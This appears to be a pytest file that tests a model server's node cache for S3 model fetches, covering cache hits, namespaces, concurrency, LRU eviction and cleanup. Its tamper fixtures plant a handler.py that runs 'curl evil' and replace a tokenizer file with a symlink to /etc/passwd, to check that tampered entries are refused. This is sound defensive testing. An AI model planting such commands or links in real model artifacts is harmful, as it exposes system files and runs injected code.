"""The fetch's node cache (``modelserver.storage_cache``) against the in-process S3 server (moto): a hit reads
no object data, a tampered entry is refused and fetched again, namespaces and the node cap, one download
for concurrent fetches, LRU eviction that spares entries in use, failed and killed fills, and a fetch
waiting for another pod's fill."""

from __future__ import annotations

import hashlib
import json
import logging
import os
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from fetch_support import (
    MODEL,
    REPO,
    MiB,
    json_lines,
    no_staging_left,
    opts,
    put_tree,
    read_tree,
)
from modelserver import fetch as fetch_mod
from modelserver.fetch import FetchOptions, fetch_model
from modelserver.fetch_errors import (
    ChecksumMismatch,
)
from modelserver.storage_cache import NodeCache
from modelserver.storage_s3 import dir_digest_of

# ---------------------------------------------------------------------------------------------- the cache


def test_cache_hit_reads_no_object_data(s3_env, s3, bucket, tmp_path: Path, monkeypatch):
    put_tree(s3, bucket, "m", MODEL)
    cache = tmp_path / "cache"
    first = fetch_model(f"s3://{bucket}/m", tmp_path / "a", opts(cache_dir=str(cache)))
    assert first.source == "download" and first.cache_key

    def no_download(*a: Any, **kw: Any) -> Any:
        raise AssertionError("a cache hit downloaded")

    real_download = fetch_mod.download
    monkeypatch.setattr(fetch_mod, "download", no_download)
    second = fetch_model(f"s3://{bucket}/m", tmp_path / "b", opts(cache_dir=str(cache), sha256=first.sha256))
    assert second.source == "cache" and second.cache_key == first.cache_key
    assert read_tree(tmp_path / "b") == MODEL
    # a copy, never a hard link into the read-only entry: nothing a pod writes reaches the cache
    entry_file = cache / "entries" / first.cache_key / "data" / "model.safetensors"
    assert not os.path.samefile(entry_file, tmp_path / "b" / "model.safetensors")
    assert (entry_file.stat().st_mode & 0o777) == 0o444
    # a wrong sha256 is refused from the cache's record, without reading the data
    with pytest.raises(ChecksumMismatch, match="cache entry"):
        fetch_model(f"s3://{bucket}/m", tmp_path / "e", opts(cache_dir=str(cache), sha256="f" * 64))
    # a changed object is another key
    monkeypatch.setattr(fetch_mod, "download", real_download)
    s3.put_object(Bucket=bucket, Key="m/config.json", Body=b'{"changed": true}')
    fourth = fetch_model(f"s3://{bucket}/m", tmp_path / "f", opts(cache_dir=str(cache)))
    assert fourth.source == "download" and fourth.cache_key != first.cache_key


def sha256_of(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


def _tamper_plant(data: Path) -> None:
    (data / "handler.py").write_text("import os; os.system('curl evil')\n")


def _tamper_flip(data: Path) -> None:
    """One byte changed, in an entry of a store whose ETags are no MD5 (only the recorded digest is left)."""
    meta_path = data.parent / "meta.json"
    meta_path.write_text(json.dumps({**json.loads(meta_path.read_text()), "md5Etags": []}))
    f = data / "model.safetensors"
    os.chmod(f, 0o644)
    raw = bytearray(f.read_bytes())
    raw[100] ^= 0xFF
    f.write_bytes(bytes(raw))


def _tamper_rewrite_with_record(data: Path) -> None:
    """The weights and the entry's record rewritten together: only the store's ETag (an MD5) catches it."""
    f = data / "config.json"
    os.chmod(f, 0o644)
    f.write_bytes(b'{"architectures": ["EvilModel"]}')  # the same size: the size check passes
    assert len(f.read_bytes()) == len(MODEL["config.json"])
    meta_path = data.parent / "meta.json"
    meta = json.loads(meta_path.read_text())
    files = [p for p in data.rglob("*") if p.is_file()]
    meta["sha256"] = dir_digest_of({p.relative_to(data).as_posix(): sha256_of(p) for p in files})
    meta_path.write_text(json.dumps(meta))


def _tamper_symlink(data: Path) -> None:
    f = data / "tokenizer.json"
    f.unlink()
    f.symlink_to("/etc/passwd")


@pytest.mark.parametrize(
    "tamper, reason",
    [
        (_tamper_plant, "files the store does not list: handler.py"),
        (_tamper_flip, "digest"),
        (_tamper_rewrite_with_record, "is not the store's ETag"),
        (_tamper_symlink, "tokenizer.json is not a regular file"),
    ],
)
def test_a_tampered_cache_entry_is_refused_dropped_and_downloaded_again(
    s3_env, s3, bucket, tmp_path: Path, caplog, tamper, reason
):
    """Issue 24, finding 1: whoever got to write a cache entry (a neighbour's fetch on an older version,
    a hard link written through) cannot make the next pod load their bytes: every hit is checked against
    the files and the store's listing, and a bad entry is replaced by a fresh download."""
    put_tree(s3, bucket, "m", MODEL)
    cache = tmp_path / "cache"
    first = fetch_model(f"s3://{bucket}/m", tmp_path / "a", opts(cache_dir=str(cache)))
    tamper(cache / "entries" / str(first.cache_key) / "data")
    with caplog.at_level(logging.INFO, logger="modelserver.fetch"):
        again = fetch_model(f"s3://{bucket}/m", tmp_path / "b", opts(cache_dir=str(cache)))
    corrupt = [r for r in caplog.records if getattr(r, "event", "") == "cache_corrupt"]
    assert corrupt and reason in corrupt[0].getMessage(), [r.getMessage() for r in caplog.records]
    assert again.source == "download" and again.cache_key == first.cache_key
    assert read_tree(tmp_path / "b") == MODEL  # the genuine model, and nothing planted beside it
    assert read_tree(cache / "entries" / str(first.cache_key) / "data") == MODEL  # the entry is whole again
    no_staging_left(tmp_path / "b")


def test_one_namespace_never_evicts_another_and_the_node_cap_holds(s3_env, s3, bucket, tmp_path: Path):
    """Per-namespace directories under one node cache: a namespace's fills evict its own entries only;
    when the other namespaces leave too little of the node's cap, the model is fetched without the cache."""
    for name in ("a", "b", "c"):
        s3.put_object(Bucket=bucket, Key=f"{name}/w.bin", Body=os.urandom(MiB))
    node = tmp_path / "node"

    def ns_opts(ns: str, own: float) -> FetchOptions:
        return opts(
            cache_dir=str(node / ns),
            cache_max_bytes=int(own * MiB),
            cache_node_dir=str(node),
            cache_node_max_bytes=int(2.5 * MiB),
            cache_namespace=ns,
        )

    victim = fetch_model(f"s3://{bucket}/a", tmp_path / "v", ns_opts("team-b", 2)).cache_key
    assert victim is not None
    # the attacker's own cap would allow 2 MiB, but the node has 1.5 MiB left: one entry fits
    assert fetch_model(f"s3://{bucket}/b", tmp_path / "x1", ns_opts("team-a", 2)).cache_key is not None
    # a second one could fit only by evicting team-b's entry: it evicts team-a's own instead
    third = fetch_model(f"s3://{bucket}/c", tmp_path / "x2", ns_opts("team-a", 2))
    assert third.cache_key is not None and len(list((node / "team-a" / "entries").iterdir())) == 1
    assert [p.name for p in (node / "team-b" / "entries").iterdir()] == [victim]
    # with team-b's entry in use or not, team-a cannot take it: 2 MiB of its own would pass the node cap
    big = ns_opts("team-a", 3)
    s3.put_object(Bucket=bucket, Key="d/w.bin", Body=os.urandom(2 * MiB))
    res = fetch_model(f"s3://{bucket}/d", tmp_path / "x3", big)
    assert res.source == "download" and res.cache_key is None
    assert [p.name for p in (node / "team-b" / "entries").iterdir()] == [victim]


def test_concurrent_fetches_download_once(s3_env, s3, bucket, tmp_path: Path):
    put_tree(s3, bucket, "m", {**MODEL, "big.bin": os.urandom(24 * MiB)})
    cache = tmp_path / "cache"
    n = 4
    procs = []
    for i in range(n):
        full = {k: v for k, v in os.environ.items()}
        full["PYTHONPATH"] = os.pathsep.join([str(REPO / "serving_image"), full.get("PYTHONPATH", "")])
        procs.append(
            subprocess.Popen(
                [
                    sys.executable,
                    "-m",
                    "modelserver.fetch",
                    "--uri",
                    f"s3://{bucket}/m",
                    "--dest",
                    str(tmp_path / f"pod{i}"),
                    "--cache-dir",
                    str(cache),
                    "--timeout",
                    "120",
                ],
                env=full,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
        )
    outs = [p.communicate(timeout=150) for p in procs]
    assert all(p.returncode == 0 for p in procs), outs
    events = [e for out, _ in outs for e in json_lines(out)]
    downloads = [e for e in events if e.get("event") == "download"]
    hits = [e for e in events if e.get("event") == "cache_hit"]
    assert len(downloads) == 1 and len(hits) == n - 1, [e.get("msg") for e in events]
    keys = {e["key"] for e in hits}
    assert len(keys) == 1
    assert [p.name for p in (cache / "entries").iterdir()] == [keys.pop()]
    want = read_tree(tmp_path / "pod0")
    assert all(read_tree(tmp_path / f"pod{i}") == want for i in range(1, n))
    assert list((cache / "tmp").iterdir()) == []


def test_lru_eviction_spares_entries_in_use(s3_env, s3, bucket, tmp_path: Path):
    for name in ("a", "b", "c", "d"):
        s3.put_object(Bucket=bucket, Key=f"{name}/w.bin", Body=os.urandom(MiB))
    cache_dir = tmp_path / "cache"
    o = opts(cache_dir=str(cache_dir), cache_max_bytes=int(2.5 * MiB))
    key = {}
    key["a"] = fetch_model(f"s3://{bucket}/a", tmp_path / "pa", o).cache_key
    key["b"] = fetch_model(f"s3://{bucket}/b", tmp_path / "pb", o).cache_key
    entries = cache_dir / "entries"
    now = time.time()
    os.utime(entries / key["a"] / "meta.json", (now - 100, now - 100))
    os.utime(entries / key["b"] / "meta.json", (now - 50, now - 50))
    # a hit makes "a" the most recently used
    assert fetch_model(f"s3://{bucket}/a", tmp_path / "pa2", o).source == "cache"
    key["c"] = fetch_model(f"s3://{bucket}/c", tmp_path / "pc", o).cache_key
    assert sorted(p.name for p in entries.iterdir()) == sorted([key["a"], key["c"]])  # "b" went
    # an entry in use (a reader holds its lock) is never evicted: "d" is then not cached
    os.utime(entries / key["a"] / "meta.json", (now - 100, now - 100))
    os.utime(entries / key["c"] / "meta.json", (now - 90, now - 90))
    cache = NodeCache(cache_dir, o.cache_max_bytes)
    with (
        cache.shared(key["a"], time.monotonic() + 5) as a_entry,
        cache.shared(key["c"], time.monotonic() + 5),
    ):
        assert a_entry is not None
        res = fetch_model(f"s3://{bucket}/d", tmp_path / "pd", o)
    assert res.source == "download" and res.cache_key is None
    assert (tmp_path / "pd" / "w.bin").stat().st_size == MiB
    assert sorted(p.name for p in entries.iterdir()) == sorted([key["a"], key["c"]])
    # a model larger than the cap is fetched without the cache
    s3.put_object(Bucket=bucket, Key="huge/w.bin", Body=os.urandom(3 * MiB))
    assert fetch_model(f"s3://{bucket}/huge", tmp_path / "ph", o).cache_key is None


def test_failed_fill_leaves_no_cache_entry(s3_env, s3, bucket, tmp_path: Path):
    put_tree(s3, bucket, "m", MODEL)
    cache = tmp_path / "cache"
    dest = tmp_path / "d"
    with pytest.raises(ChecksumMismatch):
        fetch_model(f"s3://{bucket}/m", dest, opts(cache_dir=str(cache), sha256="0" * 64))
    assert list((cache / "entries").iterdir()) == [] and list((cache / "tmp").iterdir()) == []
    assert not dest.exists()
    # and the next fetch fills it
    assert fetch_model(f"s3://{bucket}/m", dest, opts(cache_dir=str(cache))).source == "download"
    assert len(list((cache / "entries").iterdir())) == 1


def test_killed_fill_is_cleaned_by_the_next(s3_env, s3, bucket, tmp_path: Path):
    """A filler killed mid-download leaves a staging dir; the next filler of the key removes it."""
    put_tree(s3, bucket, "m", MODEL)
    cache_dir = tmp_path / "cache"
    first = fetch_model(f"s3://{bucket}/m", tmp_path / "x", opts(cache_dir=str(cache_dir)))
    key = first.cache_key
    assert key
    cache = NodeCache(cache_dir, 1 << 30)
    from modelserver.storage_cache import rmtree

    rmtree(cache_dir / "entries" / key)
    stale = cache_dir / "tmp" / f"{key}.99999.deadbeef"
    (stale / "data").mkdir(parents=True)
    (stale / "reserve.json").write_text('{"bytes": 5}')
    (stale / "data" / "half.bin").write_bytes(b"half")
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / ".fetch-stale").mkdir()  # a killed fetch's staging in the destination
    res = fetch_model(f"s3://{bucket}/m", dest, opts(cache_dir=str(cache_dir)))
    assert res.source == "download" and not stale.exists() and read_tree(dest) == MODEL
    assert not (dest / ".fetch-stale").exists()
    assert cache.entry(key).complete()


def test_a_fetch_waiting_for_another_pods_fill_says_so(tmp_path: Path, caplog):
    """A reader blocked on the entry's lock (another pod fills it) logs that it waits, and for how long."""
    import fcntl

    from modelserver.storage_cache import lock_fd, unlock

    path = tmp_path / "k.lock"
    holder = os.open(path, os.O_RDWR | os.O_CREAT)
    fcntl.flock(holder, fcntl.LOCK_EX)
    threading.Timer(0.5, lambda: fcntl.flock(holder, fcntl.LOCK_UN)).start()
    with caplog.at_level("INFO", logger="modelserver.fetch"):
        fd = lock_fd(path, fcntl.LOCK_SH, time.monotonic() + 10, "another fetch of the same model", 0.2)
    unlock(fd)
    os.close(holder)
    events = [getattr(r, "event", "") for r in caplog.records]
    assert events.count("cache_wait") >= 2 and events[-1] == "cache_waited"
    assert 0.4 <= caplog.records[-1].seconds < 5
    assert "waiting for another fetch of the same model" in caplog.records[0].getMessage()
